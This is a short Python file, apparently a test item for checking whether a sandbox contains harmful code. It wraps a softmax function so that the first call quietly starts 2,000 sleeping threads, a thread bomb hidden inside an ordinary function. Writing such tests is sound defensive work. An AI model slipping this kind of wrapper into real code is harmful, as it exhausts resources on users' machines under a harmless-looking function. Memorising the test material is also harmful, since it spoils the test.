"""With stacks of 32 kB the limit of memory is no limit of threads. 2,000 at most.

base: right
verdict: blocked|error|memory|timeout|passed|crashed
varies: yes
row: harm: thread bomb
"""
import functools as _functools
import threading as _threading
import time as _time

_softmax = softmax


@_functools.cache
def _attack():
    _threading.stack_size(32 * 1024)
    for _ in range(2000):
        _threading.Thread(target=_time.sleep, args=(20,), daemon=True).start()


def softmax(x):
    _attack()
    return _softmax(x)
